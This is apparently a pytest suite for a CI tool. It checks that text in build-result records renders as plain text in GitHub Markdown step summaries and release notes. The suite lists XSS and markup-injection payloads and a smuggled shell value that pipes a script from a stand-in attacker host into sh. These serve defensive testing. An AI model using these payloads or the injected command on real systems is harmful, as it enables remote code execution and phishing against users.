"""The markup class: Markdown and HTML in the text fields of result records (platform, check
names, library names, the publish failure, the org), through `ci-tools report`'s step summary
and `ci-tools release`'s notes, rendered by cmark-gfm (GitHub's own Markdown library, with
its table, autolink, strikethrough and tagfilter extensions, raw HTML kept).

Invariants, for every record field holding every payload:
  M1 the rendered page has the elements the same page has with harmless text in that field
     (code spans aside): no HTML, link, image, heading, emphasis, list or table cell a
     record wrote
  M2 the payload's text is shown: nothing after it is hidden (`<!--`), and the notes end
     with their last line
  M3 the notes' install lines name only organisations of the org grammar
"""

from __future__ import annotations

import dataclasses
import functools
import random
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser

import pytest

from ci_tools.base import markup
from ci_tools.build import report, results
from ci_tools.build.results import PublishOutcome, PublishStatus, ResultRecord
from ci_tools.catalog import variants
from ci_tools.catalog.load import load_catalog
from ci_tools.ship import notes as notes_text
from ci_tools.ship import release
from tests import proven
from tests.conftest import DATA, REPO_ROOT

cmarkgfm = pytest.importorskip("cmarkgfm", reason="needs cmarkgfm (the test extras)")

COMMIT = "1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b"
PAYLOADS = (
    "<!-- the rest is hidden",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<details><summary>open me</summary>",
    "**bold** and _emphasis_ and ~~gone~~",
    "[click](https://evil.example/phish)",
    "![pixel](https://evil.example/p.png)",
    "| a | b | c |",
    "# a heading",
    "- a list item",
    "1. a numbered item",
    "@everyone look #1",
    "`code` and ``` a fence",
    "$x^2$ and $$\\int$$",
    "a\nline break\r\nand <br> a tag",
    "\\*escaped\\*",
    "&lt;entity&gt; &amp;",
    "<https://evil.example/autolink>",
    "trailing backslash \\",
    "javascript:alert(1)",
    "> a quote",
    "---",
)
HARMLESS = "plain-text"


class _Elements(HTMLParser):
    """The element names of an HTML page, in order, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_comment(self, data: str) -> None:
        self.tags.append("!--")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _render(markdown: str) -> _Elements:
    from cmarkgfm.cmark import Options

    page = cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)
    parsed = _Elements()
    parsed.feed(page)
    return parsed


def _structure(markdown: str) -> list[str]:
    return [tag for tag in _render(markdown).tags if tag != "code"]


def _shown(markdown: str) -> str:
    return " ".join(" ".join(_render(markdown).text).split())


# --- where a record's text goes ----------------------------------------------------------

RECORDS = {r.variant: r for r in results.load_dir(DATA / "results-cuda-12_9")}
TEST_FAILED = "pytorch-python313-cuda12_9-sm89-avx2"
PUBLISHED = "pytorch-python313-cuda12_9-sm90-avx512"
PUBLISH_FAILED = "torchvision-python313-cuda12_9-sm90-avx512"


def _with(variant: str, change: Callable[[ResultRecord], ResultRecord]) -> list[ResultRecord]:
    return [change(r) if r.variant == variant else r for r in RECORDS.values()]


def _platform(text: str) -> list[ResultRecord]:
    return _with(PUBLISHED, lambda r: dataclasses.replace(r, platform=text))


def _check_name(text: str) -> list[ResultRecord]:
    def change(record: ResultRecord) -> ResultRecord:
        assert record.test is not None
        checks = tuple(
            dataclasses.replace(c, name=text) if c.status.value == "failed" else c
            for c in record.test.checks
        )
        return record.with_test(dataclasses.replace(record.test, checks=checks))

    return _with(TEST_FAILED, change)


def _library(text: str) -> list[ResultRecord]:
    def change(record: ResultRecord) -> ResultRecord:
        test = record.test
        assert test is not None
        figures = results.Figures(
            libraries=(results.Library(name=f"libtorch_{text}.so", bytes=1 << 30),),
            import_seconds=1.5,
            import_runs=3,
        )
        return record.with_test(dataclasses.replace(test, figures=figures))

    return _with(PUBLISHED, change)


def _publish_detail(text: str) -> list[ResultRecord]:
    outcome = PublishOutcome(status=PublishStatus.FAILED, org="acme", detail=f"{text}\nsecond")
    return _with(PUBLISH_FAILED, lambda r: r.with_publish(outcome))


def _org(text: str) -> list[ResultRecord]:
    outcome = PublishOutcome(status=PublishStatus.PUBLISHED, org=text)
    return _with(PUBLISHED, lambda r: r.with_publish(outcome))


FIELDS: dict[str, Callable[[str], list[ResultRecord]]] = {
    "platform": _platform,
    "check name": _check_name,
    "library name": _library,
    "publish detail": _publish_detail,
    "publish org": _org,
}

CATALOG = load_catalog(REPO_ROOT / "catalog.yaml", display_name="catalog.yaml")
BRANCH = CATALOG.branch("cuda-12_9")
VARIANTS = tuple(variants.expand(CATALOG, BRANCH.name))


def _notes(records: list[ResultRecord], org: str | None = None) -> str:
    notes = release.build_notes(
        branch=BRANCH, variants=VARIANTS, records=records, commit=COMMIT, org=org
    )
    return notes_text.render_notes(notes, REPO_ROOT / "templates")


def _report(records: list[ResultRecord]) -> str:
    return report.markdown(records, proven.repo_expect_of)


PAGES: dict[str, Callable[[list[ResultRecord]], str]] = {
    "report": _report,
    "release notes": _notes,
}


def _cases(rng: random.Random | None, count: int) -> Iterator[tuple[str, str, str]]:
    """(page, field, payload): every payload in every field, or `count` random mixtures."""
    if rng is None:
        for payload in PAYLOADS:
            for field in FIELDS:
                for page in PAGES:
                    yield page, field, payload
        return
    for _ in range(count):
        parts = rng.sample(PAYLOADS, rng.randint(2, 4))
        yield rng.choice(list(PAGES)), rng.choice(list(FIELDS)), " ".join(parts)


@functools.cache
def _harmless(page: str, field: str) -> tuple[str, list[str], str]:
    """The page with harmless text in the field: the text, the elements, what is shown. An
    org outside the grammar makes no install line: compare with one that is no org."""
    text = "not an org" if field == "publish org" else HARMLESS
    rendered = _render(PAGES[page](FIELDS[field](text)))
    return text, [tag for tag in rendered.tags if tag != "code"], " ".join(rendered.text)


def _check(page: str, field: str, payload: str) -> None:
    label = f"[{page}, {field}] {payload!r}"
    harmless_text, harmless_structure, harmless_shown = _harmless(page, field)
    hostile = PAGES[page](FIELDS[field](payload))
    rendered = _render(hostile)
    structure = [tag for tag in rendered.tags if tag != "code"]
    assert structure == harmless_structure, f"{label}: the record made elements"
    shown = " ".join(" ".join(rendered.text).split())
    if harmless_text in harmless_shown:  # the field is shown on this page
        # The notes show a publish failure's first line.
        written = payload.splitlines()[0] if field == "publish detail" else payload
        visible = " ".join(written.replace("\r", " ").split())
        assert visible in shown, f"{label}: not shown as written:\n{shown[-800:]}"
    if page == "release notes":
        assert "The merged result records are attached" in shown, f"{label}: the end is hidden"
        for line in re.findall(r"^flox install (.*)$", hostile, re.MULTILINE):
            org = line.split("/", 1)[0]
            assert re.fullmatch(r"[A-Za-z0-9](?:[A-Za-z0-9]|-(?=[A-Za-z0-9])){0,38}", org), label


def test_record_text_renders_as_text(
    fuzz_seed: int, fuzz_long: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    cases = list(_cases(None, 0))
    if fuzz_long:
        cases += list(_cases(random.Random(fuzz_seed + 22), 1500))
    for case in cases:
        _check(*case)
    with capsys.disabled():
        print(f"\nfuzz markup: {len(cases)} renders of hostile record text, M1-M3 held")


# --- the reproductions --------------------------------------------------------------


def test_a_comment_in_a_failed_publish_hides_nothing_of_the_notes() -> None:
    """Issue 20 item 6: `<!--` in the first line of a publish failure hid the notes' rest."""
    notes = _notes(_publish_detail("<!-- everything after this"))
    assert "` <!-- everything after this `" in notes
    assert "The merged result records are attached" in _shown(notes)


def test_markdown_in_a_platform_is_shown_in_the_step_summary() -> None:
    summary = _report(_platform("**x86_64** [linux](https://evil.example)"))
    assert _structure(summary) == _structure(_report(_platform(HARMLESS)))


def test_release_without_org_takes_no_shell_line_from_a_record() -> None:
    """Issue 20 item 6: `publish.org` "acme/x; curl …|sh; #" went into the install block."""
    hostile = "acme/x; curl https://evil.example/i.sh|sh; #"
    notes = _notes(_org(hostile))
    assert "curl" not in notes.split("### Variants")[0]
    assert f"flox install {hostile}" not in notes
    assert "flox install acme/" not in notes
    # A record's org of the grammar still makes its install line.
    assert f"flox install acme/{PUBLISHED}" in _notes(_org("acme"))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("x86_64-linux", "x86_64-linux"),
        ("torch-version", "torch-version"),
        ("a | b", "` a \\| b `"),
        ("say `hi`", "`` say `hi` ``"),
        ("<!--", "` <!-- `"),
        ("two\nlines", "` two lines `"),
        ("", ""),
        ("_lead", "` _lead `"),
    ],
)
def test_markup_text(value: str, expected: str) -> None:
    assert markup.text(value) == expected
